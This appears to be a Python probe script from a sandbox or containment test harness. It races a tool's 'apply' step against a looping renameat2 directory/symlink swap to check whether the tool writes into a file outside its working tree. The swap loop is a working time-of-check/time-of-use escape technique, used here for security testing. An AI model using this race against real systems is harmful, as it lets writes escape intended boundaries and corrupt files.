"""Applies while the directory is swapped. When bare, the person copies the file by its path."""

import ctypes
import os
import signal
import subprocess
import time

from probe import effect, facts, syscall, trying

LOOP, OUTSIDE, BARE = facts["LOOP"], facts["OUTSIDE"], facts["ARM"] == "bare"
RENAMEAT2, HERE, EXCHANGE = 316, -100, 2
ROUNDS = 200 if BARE else 10
VICTIM = f"{OUTSIDE}/victim/data.txt"


def swap_for_ever():
    names = [ctypes.c_char_p(name) for name in (b"src", b"other")]
    while True:
        syscall(RENAMEAT2, HERE, names[0], HERE, names[1], EXCHANGE)


def wait_for_a_swap():
    """A new process takes its time; what is done before it swaps is no race."""
    deadline = time.monotonic() + 5
    while not os.path.islink("src") and time.monotonic() < deadline:
        pass


def settle():
    """The directory is a directory again, with the content it began with."""
    if os.path.islink("src"):
        os.rename("src", "other-link")
        os.rename("other", "src")
        os.rename("other-link", "other")
    subprocess.run(["git", "checkout", "-q", "src"], check=True)


def change(number):
    if BARE:
        return
    line = f"echo evil {number} >> src/data.txt"
    subprocess.run([LOOP, "exec", "--quiet", "--", "sh", "-c", line], check=True)


def take_over():
    if BARE:
        try:
            with open("src/data.txt", "a", encoding="ascii") as file:
                file.write("evil\n")
        except OSError:
            pass  # in the middle of a swap
        return
    subprocess.run([LOOP, "apply"], stdin=subprocess.DEVNULL, capture_output=True, check=False)


os.mkdir(f"{OUTSIDE}/victim")
with open("src/data.txt", encoding="ascii") as original, open(VICTIM, "w", encoding="ascii") as copy:
    copy.write(original.read())
os.symlink(f"{OUTSIDE}/victim", "other")
trying("race")
for number in range(ROUNDS):
    change(number)
    swapper = os.fork()
    if swapper == 0:
        swap_for_ever()
    wait_for_a_swap()
    take_over()
    os.kill(swapper, signal.SIGKILL)
    os.waitpid(swapper, 0)
    settle()
    with open(VICTIM, encoding="ascii") as file:
        if "evil" in file.read():
            effect("race", f"the file outside changed in round {number}")
            break
